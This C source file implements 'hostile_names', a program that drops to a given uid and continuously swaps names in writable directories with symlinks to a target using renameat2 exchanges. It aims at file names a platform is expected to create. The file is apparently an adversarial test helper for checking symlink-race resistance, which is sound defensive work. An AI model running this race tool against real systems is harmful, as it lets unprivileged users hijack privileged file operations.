/* A user's process that swaps names, as fast as it can, in every directory given that its uid can write.

   hostile_names UID TARGET DIRECTORY...

   In each directory, every name is exchanged with a symbolic link to TARGET and back (renameat2(2),
   RENAME_EXCHANGE). Directories are tried all the time, so that one that is handed over later is attacked
   from that moment on; what appears inside them is attacked too, two levels down. Descriptors of what was once
   opened are held, and what they lead to is attacked wherever it has been moved since. Runs until it is killed. */

#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <grp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static const char *target;

#define HELD 256
static int held[HELD];
static unsigned next_held;

static void exchange(int directory, const char *name)
{
    char link[300];
    snprintf(link, sizeof link, "evil-%.200s", name);
    symlinkat(target, directory, link);
    for (int round = 0; round < 40; round++)
        syscall(SYS_renameat2, directory, name, directory, link, RENAME_EXCHANGE);
}

static void attack(int parent, const char *path, int depth)
{
    int directory = openat(parent, path, O_RDONLY | O_DIRECTORY | O_NOFOLLOW | O_CLOEXEC);
    if (directory < 0)
        return;
    /* Names that the platform will use, before it makes them. */
    static const char *const known[] = {"default", "rt", "nb.sock:80", "scratch", "dask.crt", "dask.pem", 0};
    for (int i = 0; known[i]; i++)
        exchange(directory, known[i]);
    DIR *stream = fdopendir(dup(directory));
    if (stream) {
        struct dirent *entry;
        rewinddir(stream);
        while ((entry = readdir(stream))) {
            if (entry->d_name[0] == '.' || !strncmp(entry->d_name, "evil-", 5))
                continue;
            exchange(directory, entry->d_name);
            if (depth > 0)
                attack(directory, entry->d_name, depth - 1);
        }
        closedir(stream);
    }
    if (next_held >= HELD)
        close(held[next_held % HELD]);
    held[next_held++ % HELD] = directory;
}

static void attack_held(void)
{
    unsigned known = next_held < HELD ? next_held : HELD;
    for (unsigned i = 0; i < known; i++) {
        mkdirat(held[i], "more", 0777);
        exchange(held[i], "more");
        exchange(held[i], "rt");
        exchange(held[i], "scratch");
    }
}

int main(int count, char **words)
{
    if (count < 4)
        return 2;
    uid_t uid = (uid_t)atoi(words[1]);
    target = words[2];
    if (getuid() == 0 && (setgroups(0, NULL) || setresgid(uid, uid, uid) || setresuid(uid, uid, uid)))
        return 3;
    umask(0);
    write(1, "go\n", 3);
    for (;;) {
        for (int i = 3; i < count; i++)
            attack(AT_FDCWD, words[i], 2);
        attack_held();
    }
}
